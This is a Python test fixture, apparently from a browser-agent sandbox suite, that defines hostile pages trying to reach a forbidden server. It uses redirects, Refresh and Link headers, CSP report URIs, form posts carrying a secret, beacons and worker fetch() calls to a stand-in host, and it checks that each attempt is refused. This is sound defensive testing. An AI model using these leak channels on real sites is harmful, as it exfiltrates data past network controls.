"""Pages that try to reach the forbidden server: `FORBIDDEN` is its name, `DIRECT` its address and port."""

from __future__ import annotations

from typing import Any

from tests.hostile.behaviours import BUTTON, SECURE, Behaviour, Serve, document, with_pages
from tests.hostile.server import Exchange


def _answer(status: str, headers: dict[str, str], body: str = document(BUTTON)) -> Serve:
    def serve(exchange: Exchange) -> None:
        filled = {name: exchange.fill(value) for name, value in headers.items()}
        exchange.send(body, status=status, headers=filled)

    return serve


def _hops(exchange: Exchange) -> None:
    hops = int(exchange.path.strip("/") or 0)
    target = f"/{hops + 1}" if hops < 5 else "http://FORBIDDEN/hops"
    exchange.send("", status="302 Found", headers={"Location": target})


def _worker(code: str) -> Serve:
    """Returns a page whose worker, at `/worker.js`, runs `code`."""

    def serve(exchange: Exchange) -> None:
        if exchange.path == "/worker.js":
            exchange.send(code, kind="text/javascript")
        elif exchange.path == "/service":
            exchange.send(
                document(BUTTON + "<script>navigator.serviceWorker.register('/worker.js')</script>")
            )
        else:
            exchange.send(document(BUTTON + "<script>new Worker('/worker.js')</script>"))

    return serve


def _leak(name: str, about: str = "", serve: Serve | None = None, **options: Any) -> Behaviour:
    settings: dict[str, Any] = {"leaks": True, "incidents": ("refused",), **options}
    return Behaviour(name, about, serve, **settings)


# Where the start page itself leads away the episode may end for want of a page.
_AWAY: dict[str, Any] = {"outcomes": ("done", "unreachable")}

LEAKS = with_pages(
    "leaks",
    _leak(
        "redirect",
        "302 to a forbidden host",
        _answer("302 Found", {"Location": "http://FORBIDDEN/"}),
        **_AWAY,
    ),
    _leak(
        "redirect-address",
        "307 to a loopback address",
        _answer("307 x", {"Location": "http://DIRECT/"}),
        **_AWAY,
    ),
    _leak("redirect-hops", "five redirects, then a forbidden host", _hops, **_AWAY),
    _leak(
        "refresh-header",
        "Refresh header",
        _answer("200 OK", {"Refresh": "0; url=http://FORBIDDEN/"}),
        **_AWAY,
    ),
    _leak(
        "link-header",
        "Link header that preloads",
        _answer("200 OK", {"Link": "<http://FORBIDDEN/x>; rel=preload; as=script"}),
    ),
    _leak(
        "csp-report",
        "violation report sent elsewhere",
        _answer(
            "200 OK",
            {"Content-Security-Policy": "img-src 'none'; report-uri http://FORBIDDEN/report"},
            document(BUTTON + "<img src=/a.png>"),
        ),
    ),
    _leak("meta-refresh", **_AWAY),
    _leak("js-location", **_AWAY),
    _leak("late-location", plan=("wait 1", "look", "done"), **_AWAY),
    _leak("form-post", **_AWAY),
    _leak(
        "form-action",
        plan=("type 1 <secret>HOSTILE_PASSWORD</secret>", "click 2", "done"),
    ),
    _leak("beacon-unload", plan=("open HERE/other", "done")),
    _leak("iframe-top", **_AWAY),
    _leak("worker", "fetch by a worker", _worker("fetch('http://FORBIDDEN/', {mode: 'no-cors'})")),
    _leak(
        "service-worker",
        "fetch by a service worker",
        _worker(
            "addEventListener('install', (event) => "
            "event.waitUntil(fetch('http://FORBIDDEN/install', {mode: 'no-cors'})))"
        ),
        start="/service",
        domain=SECURE,
    ),
    _leak("link-ping", incidents=(), leaks=False),
    _leak("blob", **_AWAY),
    _leak(
        "agent-goes",
        plan=("open http://FORBIDDEN/", "open http://DIRECT/", "done"),
    ),
    _leak("web-transport", incidents=(), domain=SECURE),
    leaks=True,
    incidents=("refused",),
)
